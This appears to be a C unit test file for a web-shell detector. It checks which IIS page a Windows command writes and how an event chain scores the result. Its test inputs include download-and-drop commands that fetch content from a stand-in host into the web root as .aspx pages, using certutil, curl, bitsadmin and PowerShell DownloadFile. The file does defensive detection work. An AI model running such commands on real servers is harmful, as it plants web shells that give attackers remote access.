/*
 * Pages that a command says it writes: what is read of a command line, and what a chain makes of
 * it. Forms: Microsoft's references of cmd, certutil, bitsadmin, PowerShell; curl's manual.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <cmocka.h>

#include "detect/chain/command_writes.h"
#include "tests/unit/detect/chain_scenario.h"

#define PAGE "C:\\inetpub\\wwwroot\\x.aspx"

static void what_a_command_writes(void **state)
{
    static const struct {
        const char *command;
        const char *page; /* NULL: none */
    } CASES[] = {
        {"cmd /c echo ^<%@ Page %^> > " PAGE, PAGE},
        {"cmd /c echo a>>" PAGE "&echo b", PAGE},
        {"cmd /c \"echo a > \"C:\\inetpub\\my site\\x.aspx\"\"", "C:\\inetpub\\my site\\x.aspx"},
        {"cmd /c copy C:\\Windows\\Temp\\a.txt " PAGE, PAGE},
        {"cmd /c copy /y C:\\old\\b.aspx " PAGE " & del C:\\old\\b.aspx", PAGE},
        {"cmd /c move a.txt c:/inetpub/wwwroot/x.ashx", "c:/inetpub/wwwroot/x.ashx"},
        {"certutil -decode C:\\Windows\\Temp\\a.b64 " PAGE, PAGE},
        {"certutil.exe -urlcache -split -f http://203.0.113.7/a.txt " PAGE, PAGE},
        {"curl http://203.0.113.7/a -o " PAGE, PAGE},
        {"curl.exe --output \"" PAGE "\" http://203.0.113.7/a", PAGE},
        {"bitsadmin /transfer j http://203.0.113.7/a " PAGE, PAGE},
        {"powershell -c \"iwr http://203.0.113.7/a -OutFile '" PAGE "'\"", PAGE},
        {"powershell \"'a' | Out-File -FilePath " PAGE "\"", PAGE},
        {"powershell Set-Content -Path " PAGE " -Value a", PAGE},
        {"powershell [IO.File]::WriteAllText('" PAGE "','a')", PAGE},
        {"powershell (New-Object Net.WebClient).DownloadFile('http://h/a','" PAGE "')", PAGE},
        /* Read, deleted, run, copied away. */
        {"cmd /c type " PAGE, NULL},
        {"cmd /c del " PAGE, NULL},
        {"cmd /c dir " PAGE " > C:\\Windows\\Temp\\a.txt", NULL},
        {"cmd /c copy " PAGE " C:\\Windows\\Temp\\a.txt", NULL},
        {"powershell Get-Content " PAGE " | Set-Content C:\\t.txt", NULL},
        {"cmd /c echo " PAGE, NULL},
        {"cmd /c copycat " PAGE, NULL},
        {"cmd /c copy a b & type " PAGE, NULL},
        /* No page, no whole path. */
        {"cmd /c echo a > C:\\inetpub\\wwwroot\\x.txt", NULL},
        {"cmd /c echo a > x.aspx", NULL},
        {"cmd /c echo a > http://inetpub/x.aspx", NULL},
        {"", NULL},
        {">", NULL},
        {"> C:\\", NULL},
    };
    (void)state;
    for (size_t i = 0; i < sizeof CASES / sizeof CASES[0]; i++) {
        struct iw_str page = iw_command_written_page(iw_str_of(CASES[i].command), NULL);
        if (!iw_str_equal(page, iw_str_of(CASES[i].page != NULL ? CASES[i].page : "")))
            fail_msg("%s: %.*s", CASES[i].command, IW_STR_ARG(page));
    }
}

/* A line that never ends, and one of paths alone. */
static void long_lines(void **state)
{
    static char line[65536];
    (void)state;
    memset(line, '>', sizeof line - 1);
    assert_int_equal(iw_command_written_page(iw_str_of(line), NULL).n, 0);
    for (size_t i = 0; i + 4 < sizeof line; i += 4)
        memcpy(line + i, "C:\\ ", 4);
    assert_int_equal(iw_command_written_page(iw_str_of(line), NULL).n, 0);
}

#define ECHO "2000 start 20 10 cmd.exe cmd /c echo a > " A "\n"

static void what_a_chain_makes_of_it(void **state)
{
    static const struct scenario CASES[] = {
        {.name = "no event of files: the command speaks for the page",
         .script = WORKER ECHO,
         .found = "a.aspx medium 65 partial: shell shell-named-file command-shape / file_named "
                  "process_created",
         .why = "says that it writes " A "; no event tells that it did"},
        {.name = "and for the request behind it",
         .script = WORKER ECHO,
         .requests = {{A, 5000, 1, 0}},
         .found = "a.aspx high 85 partial: shell shell-named-file request-after request-rare "
                  "command-shape / file_named process_created request"},
        {.name = "the command of what it started",
         .script = WORKER "2000 start 20 10 cmd.exe cmd\n"
                          "2500 start 21 20 curl.exe curl http://h/a -o " A "\n",
         .found = "a.aspx medium 55 partial: shell shell-named-file / process_created file_named "
                  "child_created"},
        {.name = "an event tells of the file: that counts",
         .script = WORKER ECHO "2100 write 20 " A "\n",
         .found = "a.aspx medium 70: shell shell-wrote-file command-shape / process_created "
                  "file_created"},
        {.name = "another file explains the shell",
         .script = WORKER "1500 write 10 " B "\n" ECHO,
         .found =
             "b.aspx high 80: shell file same-pool written-by-server command-shape / file_created "
             "process_created"},
        {.name = "an event tells of that file, by somebody else and at another time",
         .script = WORKER ECHO "90000 write 4 " A "\n",
         .found = "w3wp.exe medium 60 partial: shell command-shape / process_created"},
        {.name = "a page that was collected, and nobody saw come",
         .script = WORKER ECHO "5000 start 22 10 cmd.exe cmd /c ver\n",
         .collected = {{A, 4900, 3600000, 0, false}},
         .requests = {{A, 4900, 1, 0}},
         .found = "a.aspx critical 93 partial: shell collected-file shell-named-file request "
                  "request-rare same-pool command-shape / file_named process_created request "
                  "process_created file"},
        {.name = "where no web server has its pages",
         .script = WORKER "2000 start 20 10 cmd.exe cmd /c echo a > C:\\Users\\Public\\a.txt\n",
         .found = ALONE},
        {.name = "a page that was compiled, and nobody saw come: that is how it came",
         .script = WORKER ECHO
         "4000 compiled 10 a.aspx.cdcab7d2.compiled\n5000 start 22 10 cmd.exe cmd /c ver\n",
         .page = A,
         .requests = {{A, 3900, 1, 0}},
         .found = "a.aspx high 85 partial: shell shell-named-file request-after request-rare "
                  "command-shape / file_named process_created request page_compiled "
                  "process_created"},
    };
    (void)state;
    RUN(CASES);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_a_command_writes),
        cmocka_unit_test(long_lines),
        cmocka_unit_test(what_a_chain_makes_of_it),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
